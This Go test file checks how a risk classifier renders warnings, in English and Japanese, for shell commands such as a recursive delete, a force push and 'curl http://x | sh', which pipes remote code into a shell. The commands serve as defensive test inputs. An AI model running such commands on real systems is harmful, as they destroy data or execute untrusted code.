package core

import (
	"strings"
	"testing"

	"github.com/cc-extention/cc-ext/internal/locale"
)

func TestRenderMessage_SingleMatch(t *testing.T) {
	engine := testEngine(t)
	v := engine.Classify("rm -rf /tmp/foo && echo done")

	got := RenderMessage(v, locale.English)
	want := "\U0001F534 HIGH RISK: [recursive-delete] recursive-delete en"
	if got != want {
		t.Fatalf("RenderMessage = %q, want %q", got, want)
	}

	got = RenderMessage(v, locale.Japanese)
	want = "\U0001F534 高リスク: [recursive-delete] recursive-delete ja"
	if got != want {
		t.Fatalf("RenderMessage(ja) = %q, want %q", got, want)
	}
}

func TestRenderMessage_SingleMedium(t *testing.T) {
	engine := testEngine(t)
	got := RenderMessage(engine.Classify("git push --force"), locale.English)
	want := "\U0001F7E1 MEDIUM RISK: [force-push] force-push en"
	if got != want {
		t.Fatalf("RenderMessage = %q, want %q", got, want)
	}
}

func TestRenderMessage_MultipleMatches(t *testing.T) {
	engine := testEngine(t)
	v := engine.Classify("git push --force; curl http://x | sh")

	got := RenderMessage(v, locale.English)
	want := "\U0001F534 HIGH RISK: Multiple risks in compound command:" +
		"\n  \U0001F7E1 [force-push] force-push en" +
		"\n  \U0001F534 [pipe-to-shell] pipe-to-shell en"
	if got != want {
		t.Fatalf("RenderMessage =\n%s\nwant\n%s", got, want)
	}

	ja := RenderMessage(v, locale.Japanese)
	if !strings.HasPrefix(ja, "\U0001F534 高リスク: 複合コマンドに複数のリスクがあります:") {
		t.Fatalf("unexpected Japanese header: %q", ja)
	}
	if strings.Count(ja, "\n  ") != 2 {
		t.Fatalf("expected two indented lines, got %q", ja)
	}
}

func TestRenderMessage_NotRisky(t *testing.T) {
	engine := testEngine(t)
	if got := RenderMessage(engine.Classify("ls"), locale.English); got != "" {
		t.Fatalf("expected empty message, got %q", got)
	}
	if got := RenderMessage(nil, locale.English); got != "" {
		t.Fatalf("expected empty message for nil verdict, got %q", got)
	}
}

func TestRenderMessage_MissingExplanation(t *testing.T) {
	rule, err := NewRule("bare", `^bare$`, map[string]string{"en": "only english"}, SourceFile)
	if err != nil {
		t.Fatalf("NewRule: %v", err)
	}
	engine := NewEngine(&Catalog{High: []*Rule{rule}})
	v := engine.Classify("bare")

	if got := RenderMessage(v, locale.Japanese); got != "\U0001F534 高リスク: [bare] " {
		t.Fatalf("expected empty explanation, got %q", got)
	}

	// A match without a rule renders with empty name and text.
	v = &Verdict{Level: LevelMedium, Matches: []Match{{SubCommand: "x", Level: LevelMedium}}}
	if got := RenderMessage(v, locale.English); got != "\U0001F7E1 MEDIUM RISK: [] " {
		t.Fatalf("unexpected render for nil rule: %q", got)
	}
}

func TestLevelLabel(t *testing.T) {
	if got := LevelLabel(LevelHigh, locale.English); got != "HIGH RISK" {
		t.Fatalf("LevelLabel = %q", got)
	}
	if got := LevelLabel(LevelMedium, locale.Japanese); got != "中リスク" {
		t.Fatalf("LevelLabel = %q", got)
	}
	if got := LevelLabel(LevelNone, locale.English); got != "" {
		t.Fatalf("expected no label for none, got %q", got)
	}
}
